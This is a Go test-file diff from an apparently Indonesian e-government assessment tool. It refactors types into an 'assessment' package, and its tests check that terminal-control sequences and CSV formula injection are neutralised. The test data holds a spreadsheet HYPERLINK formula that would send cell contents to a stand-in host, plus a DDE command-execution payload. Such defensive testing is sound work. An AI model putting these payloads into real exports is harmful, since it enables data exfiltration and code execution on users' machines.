@@ -8,6 +8,8 @@ import (
 	"strings"
 	"testing"
 	"unicode/utf8"
+
+	"github.com/spbe-mandiri/spbe-mandiri/assessment"
 )
 
 // hostile is text a forged or careless bundle may carry: an OSC 52
@@ -32,9 +34,9 @@ func terminalControl(out string) (rune, bool) {
 func hostileEnv() (*Env, *bytes.Buffer, *bytes.Buffer) {
 	var out, errb bytes.Buffer
 	d := newFakeDeps(true)
-	d.Verify = func(context.Context, string, string) (VerifyReport, error) {
-		return VerifyReport{OPDKode: "DISKOMINFO", OPDNama: hostile, Instansi: hostile, Fingerprint: fakeFP,
-			Files: []VerifyFile{{Path: "evidence/ab-" + hostile, Role: "evidence", Size: 1, OriginalName: hostile}}}, nil
+	d.Verify = func(context.Context, string, string) (assessment.VerifyReport, error) {
+		return assessment.VerifyReport{OPDKode: "DISKOMINFO", OPDNama: hostile, Instansi: hostile, Fingerprint: fakeFP,
+			Files: []assessment.VerifyFile{{Path: "evidence/ab-" + hostile, Role: "evidence", Size: 1, OriginalName: hostile}}}, nil
 	}
 	a := &AsesorDeps{
 		ReviewSheet: func(_ context.Context, _, id string) (ReviewSheet, error) {
@@ -46,7 +48,7 @@ func hostileEnv() (*Env, *bytes.Buffer, *bytes.Buffer) {
 		Bundles: func(context.Context, string) ([]StoredBundle, error) {
 			return []StoredBundle{{BundleID: "b1", OPDKode: hostile, OPDNama: hostile, CreatedAt: hostile, Periode: 2026}}, nil
 		},
-		Recap: func(context.Context, string) ([]RecapRow, error) {
+		Recap: func(context.Context, string) ([]assessment.RecapRow, error) {
 			return nil, errors.New("gagal: " + hostile)
 		},
 	}
@@ -111,7 +113,7 @@ func TestInertWriterKeepsSplitRunes(t *testing.T) {
 // run as a formula is written as text; numbers stay numbers.
 func TestCSVCellsNeutralised(t *testing.T) {
 	var b bytes.Buffer
-	rows := []RecapRow{{OPDKode: "=HYPERLINK(\"http://x.test/?\"&A1,\"klik\")", OPDNama: "+cmd|' /C calc'!A0", Instansi: "@SUM(1+1)",
+	rows := []assessment.RecapRow{{OPDKode: "=HYPERLINK(\"http://x.test/?\"&A1,\"klik\")", OPDNama: "+cmd|' /C calc'!A0", Instansi: "@SUM(1+1)",
 		Predicate: "-2+3", KeyID: "\tx", BundleID: "\rx", Periode: 2026, Index: "2.5", ClaimedIndex: "-1"}}
 	if err := WriteRecapCSV(&b, rows); err != nil {
 		t.Fatal(err)
